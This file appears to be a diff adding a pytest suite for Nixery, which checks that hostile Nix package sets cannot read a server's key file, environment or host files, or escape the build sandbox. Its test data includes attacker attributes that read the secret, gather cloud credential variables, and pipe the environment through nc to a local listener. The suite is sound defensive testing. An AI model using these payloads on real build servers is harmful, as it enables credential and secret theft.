@@ -1,0 +1,390 @@
+"""Package-set code cannot reach the server: hostile sets read a secret, the environment and the
+host's files, and nothing of it reaches any stored blob (nixery/nix/confine.py).
+
+Each set is the shared test set plus attributes an attacker would write: evaluation that reads a
+file the server can read (mode 0600, the server's own) by readFile, a store copy, fetchurl,
+import and a NIX_PATH entry; `getEnv` of every variable of Nixery's configuration and of cloud
+credentials; a builder that dumps its environment; a fixed-output builder (the one kind with
+network in the sandbox) that sends the variables it may ask Nix for to a listener; and builders
+that write into the host's /tmp, one of them asking to be built outside the sandbox. Where Nix
+cannot sandbox (a Docker container of this machine's Nix), start-up says so."""
+
+from __future__ import annotations
+
+import gzip
+import io
+import json
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import tarfile
+import threading
+import time
+import uuid
+from pathlib import Path
+from typing import Iterator
+
+import pytest
+import requests
+
+from pkgset import make_package_set
+from support import NIX_ENV, chroot_run, pull_and_unpack, skopeo_pull
+from nixery import preflight
+from nixery.nix import confine
+from nixery.config import VARIABLE_NAMES
+
+# Cloud credentials a server may hold in its environment, besides Nixery's own variables.
+CLOUD_VARIABLES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
+                   "GOOGLE_APPLICATION_CREDENTIALS", "GOOGLE_OAUTH_ACCESS_TOKEN", "AZURE_CLIENT_SECRET")
+WATCHED = tuple(sorted(VARIABLE_NAMES | set(CLOUD_VARIABLES)))
+COMMIT = "a7" * 20
+
+
+class Listener:
+    """A TCP port on 127.0.0.1 that keeps whatever is sent to it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.received = bytearray()
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(10)
+                while chunk := conn.recv(65536):
+                    self.received += chunk
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.sock.close()
+
+
+def hostile_set(directory: Path, secret: Path, port: int = 0, escape: Path = Path("/nonexistent")) -> Path:
+    """The test set plus an attacker's attributes (see the module's docstring)."""
+    salt = uuid.uuid4().hex[:12]
+    make_package_set(directory, salt=salt)
+    names = " ".join(json.dumps(name) for name in WATCHED)
+    attributes = f'''
+  leak = mk "leak" ''
+    mkdir -p $out/etc && echo ${{builtins.toJSON (builtins.readFile "{secret}")}} > $out/etc/leaked
+  '';
+  leakcopy = mk "leakcopy" ''
+    mkdir -p $out/etc && ln -s ${{builtins.path {{ path = /. + "{secret}"; name = "copied"; }}}} $out/etc/copied
+  '';
+  leakfetch = mk "leakfetch" ''
+    mkdir -p $out/etc && cp ${{builtins.fetchurl "file://{secret}"}} $out/etc/fetched
+  '';
+  leakimport = mk "leakimport" ''
+    mkdir -p $out/etc && echo ${{import {secret.parent}/secret.nix}} > $out/etc/imported
+  '';
+  leaksearch = mk "leaksearch" ''
+    mkdir -p $out/etc && echo ${{builtins.readFile <nixery-keys/{secret.name}>}} > $out/etc/searched
+  '';
+  envFetch = derivation {{
+    name = "env-fetch-${{salt}}"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin";
+    args = [ "sh" "-c" "env | nc -w 2 127.0.0.1 {port}; echo fetched > $out" ];
+    impureEnvVars = [ {names} ];
+    outputHashMode = "flat"; outputHashAlgo = "sha256";
+    outputHash = builtins.hashString "sha256" "fetched\\n";
+  }};
+  envdump = mk "envdump" ''
+    mkdir -p $out/etc
+    echo ${{builtins.toJSON (builtins.toJSON (map (n: {{ name = n; value = builtins.getEnv n; }}) [ {names} ]))}} > $out/etc/eval-env.json
+    env > $out/etc/build-env
+    cp ${{envFetch}} $out/etc/fetched
+  '';
+  escape = mk "escape" ''
+    echo escaped > {escape} || true
+    mkdir -p $out/etc && echo built > $out/etc/escape
+  '';
+  escapeNoChroot = derivation {{
+    name = "escape-nochroot"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin"; inherit salt;
+    __noChroot = true;
+    args = [ "sh" "-c" "echo escaped > {escape}-nochroot; mkdir -p $out" ];
+  }};
+'''
+    default = directory / "default.nix"
+    default.write_text(default.read_text().replace("in rec {", "in rec {" + attributes, 1))
+    return directory
+
+
+@pytest.fixture
+def secret(tmp_path) -> bytes:
+    """A stand-in key file the server (root here) can read, as it reads its signing key."""
+    value = f"stand-in-secret-{uuid.uuid4().hex}".encode()
+    path = tmp_path / "keys" / "signing-key.pem"
+    path.parent.mkdir()
+    path.write_bytes(value)
+    (path.parent / "secret.nix").write_bytes(b'"' + value + b'"')
+    for file in path.parent.iterdir():
+        file.chmod(0o600)
+    return value
+
+
+def secret_path(tmp_path: Path) -> Path:
+    return tmp_path / "keys" / "signing-key.pem"
+
+
+def stored_contents(storage: Path) -> Iterator[tuple[Path, bytes]]:
+    """Every blob in storage, and every layer decompressed."""
+    for path in sorted(storage.rglob("*")):
+        if path.is_file():
+            data = path.read_bytes()
+            yield path, data
+            if data[:2] == b"\x1f\x8b":
+                yield path, gzip.decompress(data)
+
+
+def assert_nowhere_in_storage(server, *needles: bytes) -> None:
+    contents = list(stored_contents(server.workdir / "storage"))
+    assert len(contents) > 3, "the control image's blobs must be there to search"
+    for path, data in contents:
+        for needle in needles:
+            assert needle not in data, f"{needle!r} in {path}"
+
+
+def pulled(server, name: str, tmp_path: Path, tag: str = "latest") -> Path:
+    """The rootfs of a pull that must succeed."""
+    workdir = tmp_path / f"pulled-{name.replace('/', '-')}-{tag}"
+    workdir.mkdir()
+    return pull_and_unpack(server.host, name, workdir, tag)
+
+
+def refused(server, name: str, tag: str, tmp_path: Path) -> str:
+    """skopeo's stderr for a pull that must fail with a reason it prints."""
+    result = skopeo_pull(server.host, name, tmp_path / f"refused-{name.replace('/', '-')}", tag)
+    assert result.returncode != 0, f"{name}:{tag} was served"
+    return result.stderr
+
+
+def test_a_path_set_cannot_read_the_servers_files(start_server, tmp_path, secret):
+    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path))
+    # NIX_PATH naming the secret's directory, as a service user's profile might.
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), "NIX_PATH": f"nixery-keys={secret_path(tmp_path).parent}"})
+    rootfs = pulled(server, "shell/hello", tmp_path)
+    assert (rootfs / "bin" / "hello").exists(), "restricted evaluation still serves the set's own packages"
+
+    for name in ("leak", "leakcopy", "leakfetch", "leakimport"):
+        stderr = refused(server, name, "latest", tmp_path)
+        assert "forbidden in restricted mode" in stderr and "evaluates package sets in restricted mode" in stderr
+        answer = requests.get(f"{server.url}/v2/{name}/manifests/latest", timeout=60)
+        assert answer.status_code == 403 and answer.json()["errors"][0]["code"] == "DENIED"
+    refused(server, "leaksearch", "latest", tmp_path)
+    searched = requests.get(f"{server.url}/v2/leaksearch/manifests/latest", timeout=60).json()["errors"][0]
+    assert "was not found in the Nix search path" in searched["message"]
+    assert_nowhere_in_storage(server, secret)
+
+
+def test_a_set_fetches_only_the_urls_it_is_allowed(start_server, pkgset, tmp_path):
+    """A set of the operator's that pins another with fetchTarball fetches it once its URL's
+    prefix is in NIXERY_ALLOWED_URIS, and is refused (403, naming the URL) until then."""
+    pinned = tmp_path / "pinned"
+    pinned.mkdir()
+    with tarfile.open(pinned / "base.tar.gz", "w:gz") as tar:
+        tar.add(pkgset, arcname="base")
+    pkgs = tmp_path / "pkgs"
+    pkgs.mkdir()
+    (pkgs / "default.nix").write_text(f'import (builtins.fetchTarball "file://{pinned}/base.tar.gz") {{ }}\n')
+    refusing = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
+    stderr = refused(refusing, "shell/hello", "latest", tmp_path)
+    # Nix checks a file:// URL that no prefix allows as the path it names.
+    assert f"access to absolute path '{pinned}/base.tar.gz' is forbidden in restricted mode" in stderr, stderr
+    allowing = start_server({"NIXERY_PKGS_PATH": str(pkgs), "NIXERY_ALLOWED_URIS": f"file://{pinned}/"})
+    assert (pulled(allowing, "shell/hello", tmp_path) / "bin" / "hello").exists()
+
+
+NIXPKGS_LIB = Path("/work/shared/nixpkgs-lib/lib")
+
+
+@pytest.mark.skipif(not NIXPKGS_LIB.is_dir(), reason=f"nixpkgs' lib/ is not at {NIXPKGS_LIB}")
+def test_nixpkgs_lib_evaluates_in_restricted_mode(start_server, tmp_path):
+    """nixpkgs' own library (reading its files, evaluating modules) works on the set's own files."""
+    pkgs = make_package_set(tmp_path / "pkgs", salt=uuid.uuid4().hex[:12])
+    shutil.copytree(NIXPKGS_LIB, pkgs / "lib")
+    default = pkgs / "default.nix"
+    default.write_text(default.read_text().replace("in rec {", """in rec {
+  nixlib = let nixpkgsLib = import ./lib;
+    answer = (nixpkgsLib.evalModules { modules = [ { options.x = nixpkgsLib.mkOption { default = 42; }; } ]; }).config.x;
+  in nixpkgsLib.makeOverridable ({ n }: script "nixlib" "echo ${nixpkgsLib.version} ${toString n}") { n = answer; };
+""", 1))
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
+    rootfs = pulled(server, "nixlib", tmp_path)
+    # lib.version: lib/.version, and "pre-git" for a tree without its .version-suffix file.
+    version = (NIXPKGS_LIB / ".version").read_text().strip()
+    assert chroot_run(rootfs, "/bin/nixlib").split() == [version + "pre-git", "42"]
+
+
+@pytest.fixture
+def channel_dir(tmp_path, secret, listener) -> Path:
+    """A directory of tarballs for file://DIR/{rev}.tar.gz: `COMMIT` is the attacker's."""
+    directory = tmp_path / "tarballs"
+    directory.mkdir()
+    pkgs = hostile_set(tmp_path / "attacker", secret_path(tmp_path), port=listener.port)
+    with tarfile.open(directory / f"{COMMIT}.tar.gz", "w:gz") as tar:
+        tar.add(pkgs, arcname=f"nixpkgs-{COMMIT}")
+    return directory
+
+
+def channel_env(directory: Path, **extra: str) -> dict[str, str]:
+    return {"NIXERY_CHANNEL": "nixos-test", "NIXERY_CHANNEL_URL_TEMPLATE": f"file://{directory}/{{rev}}.tar.gz",
+            **extra}
+
+
+def test_a_commit_tag_cannot_read_the_servers_files(start_server, channel_dir, tmp_path, secret):
+    server = start_server(channel_env(channel_dir))
+    rootfs = pulled(server, "shell/hello", tmp_path, COMMIT)
+    assert (rootfs / "bin" / "hello").exists(), "the commit's own tarball may be fetched and read"
+    for name in ("leak", "leakcopy"):
+        assert "forbidden in restricted mode" in refused(server, name, COMMIT, tmp_path)
+    assert_nowhere_in_storage(server, secret)
+
+
+def test_commit_tags_refused_without_nix(start_server, channel_dir, nix_counter, tmp_path):
+    server = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="none", PATH=nix_counter.path()))
+    nix_counter.reset()
+    stderr = refused(server, "shell/hello", COMMIT, tmp_path)
+    assert "names a nixpkgs commit" in stderr and "NIXERY_CHANNEL_COMMITS" in stderr
+    answer = requests.get(f"{server.url}/v2/leak/manifests/{COMMIT}", timeout=60)
+    assert answer.status_code == 403 and answer.json()["errors"][0]["detail"] == {"tag": COMMIT}
+    assert nix_counter.count() == 0
+
+    listed = start_server(channel_env(channel_dir, NIXERY_CHANNEL_COMMITS="b" * 40 + "," + COMMIT,
+                                      PATH=nix_counter.path()))
+    # A listed commit is fetched (here there is no such tarball: Nix's download fails, a 500).
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'b' * 40}", timeout=60).status_code == 500
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{'c' * 40}", timeout=60).status_code == 403
+    assert requests.get(f"{listed.url}/v2/shell/hello/manifests/{COMMIT}", timeout=120).status_code == 200
+
+
+def test_a_commit_tag_cannot_read_the_servers_environment(start_server, channel_dir, listener, tmp_path):
+    marker = uuid.uuid4().hex
+    planted = {name: f"leak-{name}-{marker}" for name in CLOUD_VARIABLES + ("NIXERY_GIT_TOKEN",)}
+    server = start_server(channel_env(channel_dir, **planted))
+    rootfs = pulled(server, "envdump", tmp_path, COMMIT)
+    etc = rootfs / "etc"
+    evaluated = {entry["name"]: entry["value"] for entry in json.loads((etc / "eval-env.json").read_text())}
+    assert set(evaluated) == set(WATCHED) and set(evaluated.values()) == {""}, \
+        {k: v for k, v in evaluated.items() if v}
+    assert "PATH=" in (etc / "build-env").read_text() and (etc / "fetched").read_text() == "fetched\n"
+
+    sent = listener.received.decode()
+    assert "PATH=" in sent, "the fixed-output builder must have reported its environment"
+    fetch_env = dict(line.split("=", 1) for line in sent.splitlines() if "=" in line)
+    assert not {name: fetch_env[name] for name in WATCHED if fetch_env.get(name)}
+    config_values = [server.env[name].encode() for name in server.env
+                     if name in VARIABLE_NAMES and len(server.env[name]) > 8]
+    assert config_values, "the server's own configuration values are searched for too"
+    for text in (sent.encode(), (etc / "build-env").read_bytes()):
+        for value in (marker.encode(), *config_values):
+            assert value not in text
+    assert_nowhere_in_storage(server, marker.encode())
+
+
+def test_a_build_cannot_write_to_the_hosts_files(start_server, tmp_path, secret):
+    """With `sandbox = false` in Nix's configuration (as a container's nix.conf has it) on a
+    machine where Nix can sandbox, builds are sandboxed all the same."""
+    unsandboxed = {"NIX_CONFIG": NIX_ENV["NIX_CONFIG"] + "\nsandbox = false"}
+    environment = {"PATH": os.environ["PATH"], **unsandboxed}
+    if preflight.sandbox_problem(environment):
+        pytest.skip(f"Nix cannot sandbox here: {preflight.sandbox_problem(environment)}")
+    escape = Path("/tmp") / f"nixery-escape-{uuid.uuid4().hex}"
+    pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path), escape=escape)
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), **unsandboxed})
+    assert not [e for e in server.log_entries() if "sandbox" in e.get("message", "")], \
+        "the preflight reports the sandbox on"
+    written = [escape, Path(f"{escape}-nochroot")]
+    try:
+        rootfs = pulled(server, "escape", tmp_path)
+        assert (rootfs / "etc" / "escape").read_text() == "built\n"
+        # A derivation asking to be built outside the sandbox is refused instead.
+        refused(server, "escapenochroot", "latest", tmp_path)
+        answer = requests.get(f"{server.url}/v2/escapenochroot/manifests/latest", timeout=60).json()["errors"][0]
+        assert "__noChroot" in answer["message"], answer
+        assert not [path for path in written if path.exists()], "builders wrote into the host's /tmp"
+    finally:
+        for path in written:
+            path.unlink(missing_ok=True)
+
+
+def test_nix_gets_no_variable_of_nixery_nor_credentials():
+    service = {name: "x" for name in WATCHED} | {"PATH": "/bin", "HOME": "/var/lib/nixery", "LC_ALL": "C.UTF-8",
+                                                  "NIX_REMOTE": "daemon", "https_proxy": "http://proxy:3128",
+                                                  "SSH_AUTH_SOCK": "/run/agent", "NIXPKGS_ALLOW_UNFREE": "1"}
+    assert set(confine.nix_environment(service)) == {"PATH", "HOME", "LC_ALL", "NIX_REMOTE", "https_proxy"}
+    with_cache = set(confine.nix_environment(service, cache_credentials=True))
+    assert with_cache - set(confine.nix_environment(service)) == {n for n in WATCHED if n.startswith("AWS_")}
+
+
+# ----------------------------------------------- where Nix cannot sandbox --
+
+def docker_ready() -> bool:
+    """Whether dockerd answers, starting it (as CI starts from nothing) if it is installed."""
+    if shutil.which("docker") is None:
+        return False
+    if subprocess.run(["docker", "info"], capture_output=True, timeout=60).returncode == 0:
+        return True
+    if shutil.which("dockerd") is None or os.getuid() != 0:
+        return False
+    subprocess.Popen(["dockerd"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        if subprocess.run(["docker", "info"], capture_output=True, timeout=60).returncode == 0:
+            return True
+        time.sleep(1)
+    return False
+
+
+def skeleton_image() -> str:
+    """A Docker image of an empty merged-/usr root (links and directories only): the test mounts
+    this machine's /usr, /nix and Nix's configuration into it, so a container runs this machine's
+    Nix and Python under Docker's default confinement, which allows no namespaces."""
+    tag = "nixery-test-skeleton:1"
+    if subprocess.run(["docker", "image", "inspect", tag], capture_output=True).returncode == 0:
+        return tag
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        for name in ("bin", "lib", "lib64", "sbin"):
+            link = tarfile.TarInfo(name)
+            link.type, link.linkname = tarfile.SYMTYPE, f"usr/{name}"
+            tar.addfile(link)
+        for name in ("usr", "tmp", "etc", "root", "proc", "sys", "dev", "run", "var/tmp"):
+            directory = tarfile.TarInfo(name)
+            directory.type, directory.mode = tarfile.DIRTYPE, 0o1777 if "tmp" in name else 0o755
+            tar.addfile(directory)
+    imported = subprocess.run(["docker", "import", "-", tag], input=buffer.getvalue(), capture_output=True,
+                              timeout=120)
+    assert imported.returncode == 0, imported.stderr
+    return tag
+
+
+def test_where_nix_cannot_sandbox_start_up_warns(pkgset, tmp_path):
+    if not docker_ready():
+        pytest.skip("docker is not available to run Nix without namespaces")
+    root = Path(__file__).resolve().parent.parent
+    python = Path(sys.executable).resolve()
+    mounts = ["/usr:/usr:ro", "/nix:/nix", "/etc/nix:/etc/nix:ro", "/etc/passwd:/etc/passwd:ro",
+              "/etc/group:/etc/group:ro", f"{root}:{root}:ro", f"{pkgset}:{pkgset}:ro",
+              f"{python.parents[1]}:{python.parents[1]}:ro"]
+    env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "PYTHONPATH": str(root), "NIXERY_PKGS_PATH": str(pkgset),
+           "STORAGE_PATH": "/tmp/storage", "NIXERY_STATE_DIR": "/tmp/state", "NIX_CONFIG": NIX_ENV["NIX_CONFIG"]}
+    command = ["docker", "run", "--rm", *(f"--volume={m}" for m in mounts), *(f"--env={k}={v}" for k, v in env.items()),
+               skeleton_image(), str(python), "-m", "nixery", "--check-config"]
+    result = subprocess.run(command, capture_output=True, text=True, timeout=300)
+    assert result.returncode == 0, result.stderr
+    assert "Nix cannot sandbox builds here" in result.stderr and "reach the network" in result.stderr, result.stderr
+    on_this_machine = subprocess.run([str(python), "-m", "nixery", "--check-config"], capture_output=True, text=True,
+                                     timeout=300, cwd=tmp_path, env={**os.environ, **env, "HOME": str(tmp_path),
+                                     "PATH": os.environ["PATH"], "STORAGE_PATH": str(tmp_path / "storage"),
+                                     "NIXERY_STATE_DIR": str(tmp_path / "state")})
+    assert on_this_machine.returncode == 0 and "sandbox" not in on_this_machine.stderr, on_this_machine.stderr
